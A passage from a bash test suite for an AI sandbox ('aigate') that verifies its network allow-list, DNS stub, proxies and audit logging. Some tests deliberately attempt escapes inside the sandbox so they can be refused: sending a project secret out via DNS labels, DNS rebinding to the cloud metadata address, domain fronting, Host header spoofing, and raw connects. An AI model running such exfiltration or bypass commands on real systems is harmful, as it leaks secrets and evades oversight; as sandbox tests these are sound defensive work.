# shellcheck shell=bash
# shellcheck disable=SC2034,SC2016 # AG_ENV/NOTE are read by lib.sh; literal $ in sh -c
# test_net.sh — allow_net (docs/configuration.md, "Domains" and
# "allow_private_addresses"): the sandbox's own network namespace with
# loopback only, and the supervisor's egress outside it: the DNS stub on
# 127.0.0.1:53 (names not in allow_net get NXDOMAIN and are never
# forwarded), the HTTP proxy on 127.0.0.1:3128 and SOCKS5 on 127.0.0.1:1080,
# and transparent connects to the addresses the stub answered. Every
# refusal is a failure the program sees and an audit record.
#
# Each case starts its own servers outside the sandbox (stopped and waited
# for when it ends, pass or fail):
#   dnsmasq on $DNS_ADDR:$DNS_PORT, the host's resolver for aigate
#     (AIGATE_DNS_SERVER), logging every query it gets to $DNS_LOG:
#       allowed.test -> $WEB_ADDR, denied.test -> 127.0.0.89,
#       rebind.test  -> 169.254.169.254 (the cloud's metadata service)
#   python3 -m http.server on $WEB_ADDR:8080 serving $WWW (hello.txt, and
#     blob, 1 MiB of random bytes)
#   and, for some cases, a TLS server on $WEB_ADDR:8443 or an abstract
#   unix socket.
# $WEB_ADDR is 127.0.0.88, or another loopback address when a port there is
# taken (someone else's server on a shared machine).
# The servers are on the host's loopback, so the cases that reach them set
# allow_private_addresses: true in the global config (net_cfg --private).

DNS_ADDR=127.0.0.87
WEB_ADDR=127.0.0.88    # allowed.test (see above)
DENIED_ADDR=127.0.0.89 # denied.test

# ---- servers ------------------------------------------------------------------

NET_PIDS=()

# net_bg LOG CMD… — start CMD in the background (stdout and stderr in LOG);
# it is killed, and waited for (its ports free again), when the case ends.
net_bg() {
	local log=$1
	shift
	"$@" </dev/null >"$log" 2>&1 &
	NET_PIDS+=("$!")
	trap 'net_stop; case_cleanup' EXIT
}

# net_stop — kill every server of the case and reap it (from the EXIT trap).
net_stop() {
	[ "${#NET_PIDS[@]}" -gt 0 ] || return 0
	kill -KILL "${NET_PIDS[@]}" 2>/dev/null
	wait "${NET_PIDS[@]}" 2>/dev/null
	NET_PIDS=()
}

# dns_started PID — dnsmasq PID is serving (its log says so) or has died.
dns_started() {
	grep -q 'started, version' "$DNS_LOG" 2>/dev/null || ! proc_alive "$1"
}

# net_dns_start — dnsmasq on $DNS_ADDR at a free high port ($DNS_PORT),
# every query logged to $DNS_LOG; AIGATE_DNS_SERVER points aigate at it.
# NET_DNS_EXTRA: more dnsmasq options (a case's own names).
NET_DNS_EXTRA=()
net_dns_start() {
	local try pid
	[ -x /usr/sbin/dnsmasq ] || skip "dnsmasq is not installed (make deps: dnsmasq-base)"
	DNS_LOG=$T/dnsmasq.log
	for try in 1 2 3 4 5; do
		DNS_PORT=$((20000 + RANDOM % 40000))
		: >"$DNS_LOG"
		net_bg "$T/dnsmasq.out" /usr/sbin/dnsmasq --keep-in-foreground --no-resolv --no-hosts \
			--bind-interfaces "--listen-address=$DNS_ADDR" "--port=$DNS_PORT" --pid-file= \
			--user=root --address=/allowed.test/$WEB_ADDR --address=/denied.test/$DENIED_ADDR \
			--address=/rebind.test/169.254.169.254 "${NET_DNS_EXTRA[@]}" --log-queries \
			"--log-facility=$DNS_LOG"
		pid=${NET_PIDS[-1]}
		wait_until "dnsmasq to start" dns_started "$pid"
		proc_alive "$pid" && break
		wait "$pid" 2>/dev/null # reaped: its pid cannot be reused under net_stop
		unset 'NET_PIDS[-1]'
	done
	proc_alive "$pid" || {
		show_file "dnsmasq" "$T/dnsmasq.out" >&2
		fail "setup: dnsmasq did not start on $DNS_ADDR (5 ports tried)"
	}
	AG_ENV+=("AIGATE_DNS_SERVER=$DNS_ADDR:$DNS_PORT")
}

# dns_logged NAME — dnsmasq has logged a query for NAME.
dns_logged() {
	grep -F "]: query[" "$DNS_LOG" | grep -qF " $1 from "
}

# dns_sync — ask dnsmasq for a marker name from outside and wait until it
# is logged: every query it got before (from the sandbox's runs) is in
# $DNS_LOG by then, so a name's absence from it means something.
dns_sync() {
	local name=sync$RANDOM.marker
	"$PYTHON" - "$DNS_ADDR" "$DNS_PORT" "$name" <<'PY' || fail "setup: cannot query dnsmasq"
import socket, struct, sys
addr, port, name = sys.argv[1], int(sys.argv[2]), sys.argv[3]
q = struct.pack(">HHHHHH", 0x5a5a, 0x100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(q, (addr, port))
s.recv(512)
PY
	wait_until "dnsmasq to log $name" dns_logged "$name"
}

# assert_dns_not_forwarded NAME — dnsmasq never got a query naming NAME
# (NAME anywhere in a query's name: a label of it, a subdomain).
assert_dns_not_forwarded() {
	dns_sync
	! grep -F "]: query[" "$DNS_LOG" | grep -qF -- "$1" || {
		show_file "dnsmasq log" "$DNS_LOG" >&2
		fail "the DNS stub forwarded a query with $1 to the host's resolver"
	}
}

# net_unix_listener ADDR MESSAGE — a python3 server outside the sandbox on
# the unix socket ADDR (a path, or @NAME for an abstract name) that answers
# MESSAGE to every connection; returns once it listens.
net_unix_listener() {
	local addr=$1 msg=$2 ready=$T/unix-listener.$RANDOM.ready
	write_file "$T/unix_listener.py" <<'PY'
import os, socket, sys
addr = sys.argv[1]
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
if addr.startswith("@"):
    s.bind("\0" + addr[1:])
else:
    s.bind(addr)
    os.chmod(addr, 0o777)
s.listen(8)
open(sys.argv[3], "w").close()
while True:
    c, _ = s.accept()
    c.sendall(sys.argv[2].encode() + b"\n")
    c.close()
PY
	net_bg "$ready.log" "$PYTHON" "$T/unix_listener.py" "$addr" "$msg" "$ready"
	wait_until "the unix socket listener on $addr" test -e "$ready"
}

# net_unbg PID — stop a server net_bg started (when it could not serve).
net_unbg() {
	local i
	kill -KILL "$1" 2>/dev/null
	wait "$1" 2>/dev/null
	for i in "${!NET_PIDS[@]}"; do
		[ "${NET_PIDS[$i]}" = "$1" ] && unset "NET_PIDS[$i]"
	done
	NET_PIDS=("${NET_PIDS[@]}")
}

# net_server_up PID LOG TEXT — PID has written TEXT to LOG (it listens), or has died.
net_server_up() {
	grep -qF -- "$3" "$2" 2>/dev/null || ! proc_alive "$1"
}

# net_serve_on ADDR TLS — python3 -m http.server on ADDR:8080 and, when TLS
# is true, the TLS server on ADDR:8443. Fails (1), nothing left running,
# when either cannot listen there (a port taken by someone else's server).
net_serve_on() {
	local addr=$1 tls=$2 web tlspid
	net_bg "$T/web.log" "$PYTHON" -u -m http.server 8080 --bind "$addr" --directory "$WWW"
	web=${NET_PIDS[-1]}
	wait_until "the HTTP server on $addr:8080" net_server_up "$web" "$T/web.log" "Serving HTTP on"
	proc_alive "$web" || {
		net_unbg "$web"
		return 1
	}
	$tls || return 0
	net_bg "$T/tls.log" "$PYTHON" -u "$T/tls_server.py" "$addr" "$T/tls.crt" "$T/tls.key"
	tlspid=${NET_PIDS[-1]}
	wait_until "the TLS server on $addr:8443" net_server_up "$tlspid" "$T/tls.log" "listening"
	proc_alive "$tlspid" && return 0
	net_unbg "$tlspid"
	net_unbg "$web"
	return 1
}

# net_tls_prepare — the TLS server's script and a self-signed certificate
# for allowed.test; the server answers every GET with "tls-hello".
net_tls_prepare() {
	command -v openssl >/dev/null 2>&1 || skip "openssl is not installed (for the TLS server's certificate)"
	LAST_CMD="openssl req -x509"
	openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=allowed.test -days 1 \
		-keyout "$T/tls.key" -out "$T/tls.crt" >"$OUT" 2>"$ERR"
	STATUS=$?
	assert_status 0
	write_file "$T/tls_server.py" <<'PY'
import http.server, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"tls-hello\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
srv = http.server.ThreadingHTTPServer((sys.argv[1], 8443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(sys.argv[2], sys.argv[3])
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
print("listening", flush=True)
srv.serve_forever()
PY
}

# net_web_start TLS — the servers for allowed.test ($WWW: hello.txt, blob)
# on 127.0.0.88, or, when a port there is taken (someone else's server on
# this machine), on another loopback address: $WEB_ADDR.
net_web_start() {
	local tls=$1 try addr ports=8080
	WWW=$T/www
	mkdir -p "$WWW"
	printf 'hello from allowed.test\n' >"$WWW/hello.txt"
	head -c 1048576 /dev/urandom >"$WWW/blob"
	if $tls; then
		net_tls_prepare
		ports=8080/8443
	fi
	for try in 0 1 2 3 4; do
		addr=127.0.0.88
		[ "$try" = 0 ] || addr=127.88.$((RANDOM % 256)).$((RANDOM % 254 + 1))
		if net_serve_on "$addr" "$tls"; then
			WEB_ADDR=$addr
			return 0
		fi
	done
	show_file "HTTP server" "$T/web.log" >&2
	show_file "TLS server" "$T/tls.log" >&2
	fail "setup: cannot listen on 127.0.0.88:$ports nor on 4 other loopback addresses"
}

# ---- policy -----------------------------------------------------------------------

# net_cfg [--private] [--level LEVEL] ENTRY… — the global config: allow_net
# with ENTRY… (none: `allow_net: []`, no network), with --private
# allow_private_addresses: true, with --level the audit level.
net_cfg() {
	local private=false level='' e
	while :; do
		case ${1:-} in
		--private) private=true ;;
		--level) level=$2 && shift ;;
		*) break ;;
		esac
		shift
	done
	{
		if [ $# -eq 0 ]; then
			echo "allow_net: []"
		else
			echo "allow_net:"
			for e; do printf '  - "%s"\n' "$e"; done
		fi
		$private && echo "allow_private_addresses: true"
		[ -n "$level" ] && printf 'audit:\n  level: %s\n' "$level"
	} | write_cfg
}

# net_setup [--tls] [net_cfg ARGS…] — the HTTP server (and with --tls the
# TLS server), dnsmasq, the config, $AUDIT.
net_setup() {
	local tls=false
	[ "${1:-}" = --tls ] && tls=true && shift
	need_python
	AUDIT=$T/audit.jsonl
	printf '.rt/\n*.out\n' >>"$PROJ/.git/info/exclude"
	net_web_start "$tls"
	net_dns_start
	net_cfg "$@"
}

# assert_resolved_allowed — stdout has getent's line: allowed.test is $WEB_ADDR.
assert_resolved_allowed() {
	awk -v a="$WEB_ADDR" '$1 == a && $2 == "allowed.test" && NF == 2 { ok = 1 } END { exit !ok }' "$OUT" ||
		fail "allowed.test should resolve to $WEB_ADDR (getent hosts)"
}

# assert_net_denied FILE KEY=VALUE… — a refusal's record: denied, under allow_net.
assert_net_denied() {
	local file=$1
	shift
	assert_audit "$file" verdict=denied rule.text=allow_net "$@"
}

# ---- the sandbox's view ------------------------------------------------------------

# Inside: the proxy variables are aigate's (a host's own HTTP_PROXY is
# replaced, not passed on), and /etc/resolv.conf names the stub on
# 127.0.0.1 instead of the host's resolver.
test_net_environment() {
	net_setup --private "allowed.test:8080"
	AG_ENV+=(HTTP_PROXY=http://10.9.9.9:3128 no_proxy=example.com)
	ag run --audit-log "$AUDIT" -- sh -c 'env | grep -i "_proxy=" | sort; cat /etc/resolv.conf'
	assert_status 0
	local v
	for v in HTTP_PROXY=http://127.0.0.1:3128 HTTPS_PROXY=http://127.0.0.1:3128 \
		ALL_PROXY=socks5h://127.0.0.1:1080 NO_PROXY=localhost,127.0.0.1,::1 \
		http_proxy=http://127.0.0.1:3128 https_proxy=http://127.0.0.1:3128 \
		all_proxy=socks5h://127.0.0.1:1080 no_proxy=localhost,127.0.0.1,::1; do
		grep -qxF "$v" "$OUT" || fail "the sandbox's environment should have $v"
	done
	assert_stdout_not_contains "10.9.9.9"
	assert_stdout_not_contains "no_proxy=example.com"
	grep -qx 'nameserver 127.0.0.1' "$OUT" || fail "resolv.conf inside should name the stub: nameserver 127.0.0.1"
	assert_eq "$(grep -c '^nameserver' "$OUT")" 1 "nameserver lines inside"
}

# ---- DNS ---------------------------------------------------------------------------

# A name allow_net admits resolves (through dnsmasq, the host's resolver
# here); a name it lacks gets NXDOMAIN, is never forwarded (dnsmasq never
# sees it), and is one audit record and one line on aigate's stderr.
test_net_dns_denied_not_forwarded() {
	net_setup --private "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- sh -c 'getent hosts denied.test; echo "denied $?"; getent hosts allowed.test; echo "allowed $?"'
	assert_status 0
	assert_stdout_contains "denied 2"
	assert_resolved_allowed
	assert_stdout_contains "allowed 0"
	assert_net_denied "$AUDIT" action=dns enforcer=dns target=denied.test \
		"reason=~allow_net lacks denied.test: answered NXDOMAIN"
	assert_no_audit "$AUDIT" action=dns target=allowed.test
	assert_stderr_contains "aigate: denied: dns denied.test: allow_net lacks denied.test"
	wait_until "dnsmasq to log allowed.test" dns_logged allowed.test
	assert_dns_not_forwarded denied.test
}

# The stub over TCP (RFC 7766, two-byte length prefix): the same answers,
# the same refusal and record.
test_net_dns_tcp() {
	net_setup --private "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- python3 -c '
import socket, struct
def ask(name):
    q = struct.pack(">HHHHHH", 0x1234, 0x100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    s = socket.create_connection(("127.0.0.1", 53), timeout=10)
    s.sendall(struct.pack(">H", len(q)) + q)
    buf = b""
    while len(buf) < 2 or len(buf) < 2 + struct.unpack(">H", buf[:2])[0]:
        c = s.recv(4096)
        if not c:
            break
        buf += c
    r = buf[2:]
    rcode, an = r[3] & 15, struct.unpack(">H", r[6:8])[0]
    addr = socket.inet_ntoa(r[-4:]) if an else "-"
    print(name, "rcode", rcode, "answers", an, addr)
ask("allowed.test")
ask("denied.test")'
	assert_status 0
	assert_stdout_contains "allowed.test rcode 0 answers 1 $WEB_ADDR"
	assert_stdout_contains "denied.test rcode 3 answers 0 -"
	assert_net_denied "$AUDIT" action=dns enforcer=dns target=denied.test \
		"reason=~allow_net lacks denied.test: answered NXDOMAIN"
	assert_dns_not_forwarded denied.test
}

# DNS rebinding: a name in allow_net whose answer is a link-local address
# (169.254.169.254, the cloud's metadata service) or loopback is refused
# while allow_private_addresses is off: NXDOMAIN to the sandbox, the
# proxy's 403, and a record each saying which address and why.
test_net_rebind() {
	net_setup "rebind.test" "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- sh -c 'getent hosts rebind.test; echo "rebind $?"
getent hosts allowed.test; echo "allowed $?"
curl -s -o /dev/null -w "proxy %{http_code}\n" http://rebind.test/'
	assert_status 0
	assert_stdout_contains "rebind 2"
	assert_stdout_contains "allowed 2"
	assert_stdout_contains "proxy 403"
	assert_stdout_not_contains "169.254"
	assert_net_denied "$AUDIT" action=dns enforcer=dns target=rebind.test \
		"reason=~rebind.test resolves to 169.254.169.254, a link-local address (allow_private_addresses is off)"
	assert_net_denied "$AUDIT" action=dns enforcer=dns target=allowed.test \
		"reason=~allowed.test resolves to $WEB_ADDR"
	assert_net_denied "$AUDIT" action=connect enforcer=proxy target=rebind.test:80 \
		"reason=~resolves to 169.254.169.254"
	assert_stderr_contains "aigate: denied: dns rebind.test: rebind.test resolves to 169.254.169.254"
}

# allow_private_addresses is the global config's alone: a project's
# .aigate.yaml (a cloned repository) that sets it is warned about and
# ignored, so a name resolving to loopback stays refused.
test_net_private_project_ignored() {
	net_setup "allowed.test:8080"
	write_file "$PROJ/.aigate.yaml" <<<'allow_private_addresses: true'
	ag run --audit-log "$AUDIT" -- sh -c 'getent hosts allowed.test; echo "getent $?"'
	assert_status 0
	assert_stdout_contains "getent 2"
	assert_stderr_contains "allow_private_addresses can only be set in the global config; ignored"
	assert_net_denied "$AUDIT" action=dns enforcer=dns target=allowed.test \
		"reason=~allowed.test resolves to $WEB_ADDR, a loopback address (allow_private_addresses is off)"
}

# DNS exfiltration: a secret from the project as a label under a name
# allow_net lacks fails to resolve, and the label never reaches the host's
# resolver (the record has it: whoever reads the trail sees the attempt).
test_net_dns_exfiltration() {
	net_setup --private "allowed.test:8080"
	head -c 64 /dev/urandom | base64 | write_file "$PROJ/.secret"
	local label
	label=$(head -c20 "$PROJ/.secret" | base32 | tr -d = | tr '[:upper:]' '[:lower:]')
	ag run --audit-log "$AUDIT" -- sh -c 'getent hosts "$(head -c20 .secret | base32 | tr -d = | tr "[:upper:]" "[:lower:]").denied.test"; echo "exfil $?"'
	assert_status 0
	assert_stdout_contains "exfil 2"
	assert_net_denied "$AUDIT" action=dns enforcer=dns "target=$label.denied.test"
	assert_dns_not_forwarded "$label"
	assert_dns_not_forwarded denied.test
}

# ---- the HTTP and SOCKS proxies ------------------------------------------------------

# curl through HTTP_PROXY to an allowed name: 1 MiB arrives byte for byte.
# At audit level all, no transparent connect is recorded: it went through
# the proxy.
test_net_proxy_http_intact() {
	net_setup --private --level all "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- curl -sS -o blob.out -w '%{http_code}\n' http://allowed.test:8080/blob
	assert_status 0
	assert_stdout_is 200
	assert_eq "$(checksum "$PROJ/blob.out")" "$(checksum "$WWW/blob")" "the file through the proxy"
	assert_no_audit "$AUDIT" action=connect enforcer=supervisor
	assert_no_audit "$AUDIT" verdict=denied
}

# curl through HTTP_PROXY to a name allow_net lacks: the proxy answers 403
# and records it; the name is not even resolved.
test_net_proxy_denied_403() {
	net_setup --private "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- curl -s -o denied.out -w '%{http_code}\n' http://denied.test:8080/
	assert_status 0
	assert_stdout_is 403
	assert_file_contains "$PROJ/denied.out" "allow_net lacks denied.test:8080"
	# The client is named (found by its port in the sandbox's namespace: TCP has no SO_PEERCRED).
	assert_net_denied "$AUDIT" action=connect enforcer=proxy target=denied.test:8080 \
		"reason=~allow_net lacks denied.test:8080" exe=/usr/bin/curl
	assert_stderr_contains "aigate: denied: connect denied.test:8080"
	assert_dns_not_forwarded denied.test
}

# An entry without a port admits 80 and 443 only: allowed.test:8080 is
# refused, by the proxy (403) and on the transparent path (ECONNREFUSED),
# each with a record.
test_net_proxy_default_ports() {
	net_setup --private "allowed.test"
	ag run --audit-log "$AUDIT" -- sh -c 'curl -s -o /dev/null -w "proxy %{http_code}\n" http://allowed.test:8080/
getent hosts allowed.test
curl -s --noproxy "*" -o /dev/null http://allowed.test:8080/; echo "direct $?"'
	assert_status 0
	assert_stdout_contains "proxy 403"
	NOTE="the stub answers a name allow_net admits on any port"
	assert_resolved_allowed
	NOTE=
	assert_stdout_contains "direct 7"
	assert_net_denied "$AUDIT" action=connect enforcer=proxy target=allowed.test:8080 \
		"reason=~allow_net lacks allowed.test:8080"
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=connect \
		"target=$WEB_ADDR:8080" errno=ECONNREFUSED
}

# SOCKS5 (curl --socks5-hostname: the name resolved by the proxy): an
# allowed name works, a name allow_net lacks fails and is recorded.
test_net_socks() {
	net_setup --private "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- sh -c 'curl -sS --socks5-hostname 127.0.0.1:1080 http://allowed.test:8080/hello.txt; echo "allowed $?"
curl -s --socks5-hostname 127.0.0.1:1080 http://denied.test:8080/; echo "denied $?"'
	assert_status 0
	assert_stdout_contains "hello from allowed.test"
	assert_stdout_contains "allowed 0"
	assert_stdout_contains "denied 97" # CURLE_PROXY: the SOCKS5 server refused
	assert_net_denied "$AUDIT" action=connect enforcer=proxy target=denied.test:8080 \
		"reason=~allow_net lacks denied.test:8080"
	assert_dns_not_forwarded denied.test
}

# python3's urllib follows HTTP_PROXY: it works unchanged.
test_net_python_urllib() {
	net_setup --private "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- python3 -c '
import urllib.request
print(urllib.request.getproxies().get("http"))
print(urllib.request.urlopen("http://allowed.test:8080/hello.txt", timeout=10).read().decode(), end="")'
	assert_status 0
	assert_stdout_is "http://127.0.0.1:3128
hello from allowed.test"
}

# A CONNECT tunnel to an allowed name: TLS with that name (SNI) works; a
# ClientHello naming another host (domain fronting) closes the tunnel
# before it reaches the server, and is recorded.
test_net_sni_fronting() {
	net_setup --tls --private "allowed.test:8443"
	ag run --audit-log "$AUDIT" -- curl -sSk --proxy http://127.0.0.1:3128 https://allowed.test:8443/
	assert_status 0
	assert_stdout_is "tls-hello"
	assert_no_audit "$AUDIT" verdict=denied
	ag run --audit-log "$AUDIT" -- python3 -c '
import socket, ssl
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT allowed.test:8443 HTTP/1.1\r\nHost: allowed.test:8443\r\n\r\n")
head = b""
while not head.endswith(b"\r\n\r\n"):
    c = s.recv(1)
    if not c:
        break
    head += c
print(head.split(b"\r\n")[0].decode())
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    t = ctx.wrap_socket(s, server_hostname="other.test")
    t.sendall(b"GET / HTTP/1.0\r\nHost: other.test\r\n\r\n")
    print("handshake succeeded:", t.recv(4096))
except OSError as e:
    print("handshake failed:", type(e).__name__)'
	assert_status 0
	assert_stdout_contains "HTTP/1.1 200 Connection established"
	assert_stdout_contains "handshake failed"
	assert_stdout_not_contains "tls-hello"
	assert_net_denied "$AUDIT" action=connect enforcer=proxy target=allowed.test:8443 \
		"reason=~the TLS server name other.test is not the tunnel's host allowed.test (domain fronting)"
}

# An absolute-form request whose Host header names another host than its
# URL: 403 and a record. The same request with the URL's host goes through.
test_net_host_header() {
	net_setup --private "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- python3 -c '
import socket
for host in ("other.test", "allowed.test:8080"):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"GET http://allowed.test:8080/hello.txt HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n")
    resp = b""
    while True:
        c = s.recv(65536)
        if not c:
            break
        resp += c
    print(host, resp.split(b"\r\n")[0].decode(), b"hello from allowed.test" in resp)'
	assert_status 0
	assert_stdout_contains "other.test HTTP/1.1 403 Forbidden False"
	assert_stdout_contains "allowed.test:8080 HTTP/1.0 200 OK True"
	assert_net_denied "$AUDIT" action=connect enforcer=proxy target=allowed.test:8080 \
		"reason=~the Host header other.test does not match the URL's host allowed.test:8080"
	assert_eq "$(audit_count "$AUDIT" verdict=denied)" 1 "denials (the matching Host is not one)"
}

# ---- transparent connects -------------------------------------------------------------

# Programs that ignore the proxy variables (curl --noproxy '*') reach an
# allowed name directly: the supervisor connects from outside and swaps the
# socket in (recorded as allowed at audit level all), bytes intact. A
# connect to an address the stub never answered is ECONNREFUSED and recorded.
test_net_transparent_connect() {
	net_setup --private --level all "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- sh -c 'curl -sS --noproxy "*" -o blob.out http://allowed.test:8080/blob; echo "allowed $?"
curl -s --noproxy "*" -o /dev/null --connect-timeout 10 http://192.0.2.1/; echo "literal $?"'
	assert_status 0
	assert_stdout_contains "allowed 0"
	assert_eq "$(checksum "$PROJ/blob.out")" "$(checksum "$WWW/blob")" "the file by a transparent connect"
	assert_audit "$AUDIT" action=connect enforcer=supervisor verdict=allowed syscall=connect \
		"target=$WEB_ADDR:8080 (allowed.test)"
	assert_stdout_contains "literal 7"
	# curl is dynamic: the shim refuses it in the process, before the kernel sees it.
	assert_net_denied "$AUDIT" action=connect enforcer=shim syscall=connect target=192.0.2.1:80 \
		errno=ECONNREFUSED "reason=~not an address the DNS stub answered"
	assert_no_audit "$AUDIT" enforcer=supervisor target=192.0.2.1:80
	assert_stderr_contains "aigate: denied: connect 192.0.2.1:80 (allow_net: not an address the DNS stub answered"
}

# The shim's connect hook refuses, in the process, only what the supervisor
# is certain to refuse (docs/shim.md, "connect"). An address the stub
# answered that is not loopback (the host's own address, for host.test)
# passes the shim and the supervisor connects it: the table of the stub's
# answers reached the shim in time. The same address on a port allow_net
# does not admit passes the shim too and is the supervisor's refusal. An
# address nobody answered is the shim's refusal: the line, a record naming
# allow_net, and nothing for the supervisor to see. A bad address pointer
# gets EFAULT (the shim reads no memory it has not checked); a socket
# aigate handed in and its peer reset is still the supervisor's (EISCONN).
test_net_shim_connect() {
	local host_addr port rport
	host_addr=$(hostname -I 2>/dev/null | tr ' ' '\n' | grep -E '^[0-9]+[.][0-9]+[.][0-9]+[.][0-9]+$' |
		grep -v '^127[.]' | head -n1)
	[ -n "$host_addr" ] || skip "the host has no non-loopback IPv4 address (for a name the stub answers with one)"
	NET_DNS_EXTRA=("--address=/host.test/$host_addr")
	net_setup --private "allowed.test:8080"
	net_bg "$T/host_web.out" "$PYTHON" -u -c '
import functools, http.server, sys
h = functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[2])
s = http.server.HTTPServer((sys.argv[1], 0), h)
print(s.server_address[1], flush=True)
s.serve_forever()' "$host_addr" "$WWW"
	# A server that resets every connection (SO_LINGER 0).
	net_bg "$T/host_rst.out" "$PYTHON" -u -c '
import socket, struct, sys
s = socket.socket()
s.bind((sys.argv[1], 0))
s.listen(8)
print(s.getsockname()[1], flush=True)
while True:
    c, _ = s.accept()
    c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    c.close()' "$host_addr"
	wait_until "the HTTP server on $host_addr" test -s "$T/host_web.out"
	wait_until "the resetting server on $host_addr" test -s "$T/host_rst.out"
	port=$(head -n1 "$T/host_web.out")
	rport=$(head -n1 "$T/host_rst.out")
	net_cfg --private "host.test:$port" "host.test:$rport"
	ag run --audit-log "$AUDIT" -- python3 -c '
import ctypes, errno, socket, sys
port, rport = int(sys.argv[1]), int(sys.argv[2])
addr = socket.getaddrinfo("host.test", port, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
s = socket.create_connection((addr, port), timeout=10)
s.sendall(b"GET /hello.txt HTTP/1.0\r\n\r\n")
print("answered", s.makefile("rb").read().split(b"\r\n")[-1].decode().strip())
for a, p in ((addr, port + 1), ("192.0.2.1", 80)):
    s = socket.socket()
    try:
        s.connect((a, p))
        print(p, "connected")
    except OSError as e:
        print(p, errno.errorcode[e.errno])
# A bad address pointer: the kernel answers EFAULT, the shim does not crash.
libc = ctypes.CDLL(None, use_errno=True)
s = socket.socket()
r = libc.connect(s.fileno(), ctypes.c_void_p(8), 16)
print("bad pointer", r, errno.errorcode[ctypes.get_errno()])
# A socket aigate connected, reset by its peer, stays put: the supervisor says so (EISCONN).
s = socket.create_connection((addr, rport), timeout=10)
try:
    s.recv(1)
except OSError as e:
    pass
try:
    s.connect(("192.0.2.1", 80))
    print("repointed")
except OSError as e:
    print("reset", errno.errorcode[e.errno])' "$port" "$rport"
	assert_status 0
	assert_stdout_contains "answered hello from allowed.test"
	assert_stdout_contains "$((port + 1)) ECONNREFUSED"
	assert_stdout_contains "80 ECONNREFUSED"
	assert_stdout_contains "bad pointer -1 EFAULT"
	assert_stdout_contains "reset EISCONN"
	assert_no_audit "$AUDIT" enforcer=shim "target=$host_addr:$port"
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=connect \
		"target=$host_addr:$((port + 1))" errno=ECONNREFUSED "reason=~allow_net admits no name of"
	assert_no_audit "$AUDIT" enforcer=shim "target=$host_addr:$((port + 1))"
	assert_net_denied "$AUDIT" action=connect enforcer=shim syscall=connect target=192.0.2.1:80 \
		errno=ECONNREFUSED "reason=not an address the DNS stub answered for a name in allow_net"
	assert_eq "$(audit_count "$AUDIT" enforcer=shim target=192.0.2.1:80)" 1 "the shim's refusals of 192.0.2.1:80"
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=connect target=192.0.2.1:80 \
		errno=EISCONN
	assert_stderr_contains "aigate: denied: connect 192.0.2.1:80 (allow_net: not an address the DNS stub answered for a name in allow_net, ~/.aigate/config.yaml:2)"
}

# node's fetch ignores the proxy variables: the transparent path carries it.
test_net_node_fetch() {
	command -v node >/dev/null 2>&1 || skip "node is not installed: fetch() (which ignores proxy variables) cannot be tried"
	net_setup --private --level all "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- node -e '
fetch("http://allowed.test:8080/hello.txt").then(r => r.text()).then(t => process.stdout.write(t),
  e => { console.log("fetch failed:", e.cause ? e.cause.code : e.message); process.exit(1); })'
	assert_status 0
	assert_stdout_is "hello from allowed.test"
	assert_audit "$AUDIT" action=connect enforcer=supervisor verdict=allowed \
		"target=$WEB_ADDR:8080 (allowed.test)"
}

# A static binary with a raw connect(2) (no libc wrapper, no shim, no proxy
# variable): to the address the stub answered for allowed.test it works;
# to denied.test's address (never answered: denied) and to an address
# nobody answered, ECONNREFUSED and a record each.
test_net_static_connect() {
	net_setup --private "allowed.test:8080"
	redteam_cc net_connect "$PROJ/.rt/net_connect"
	ag run --audit-log "$AUDIT" -- sh -c 'getent hosts allowed.test
.rt/net_connect "$1" 8080; echo "allowed $?"
.rt/net_connect "$2" 8080; echo "denied $?"
.rt/net_connect 192.0.2.1 80; echo "other $?"' sh "$WEB_ADDR" "$DENIED_ADDR"
	assert_status 0
	assert_resolved_allowed
	assert_eq "$(sed -n '2,4p' "$OUT" | tr '\n' '|')" "connected|HTTP/1.0 200 OK|allowed 0|" "the allowed connect"
	assert_eq "$(sed -n '5,8p' "$OUT" | tr '\n' '|')" "errno=ECONNREFUSED|denied 1|errno=ECONNREFUSED|other 1|" "the refused connects"
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=connect \
		"target=$DENIED_ADDR:8080" errno=ECONNREFUSED
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=connect \
		target=192.0.2.1:80 errno=ECONNREFUSED
	assert_dns_not_forwarded denied.test
}

# The socket aigate connected for the sandbox is a socket of the host's
# network: it must not become a way past allow_net. Pointing it elsewhere
# or disconnecting it (AF_UNSPEC, which would let it bind and listen on the
# host) is refused and recorded; TCP Fast Open (a connect inside sendmsg,
# never trapped otherwise) is refused and recorded; and 20,000 disconnects
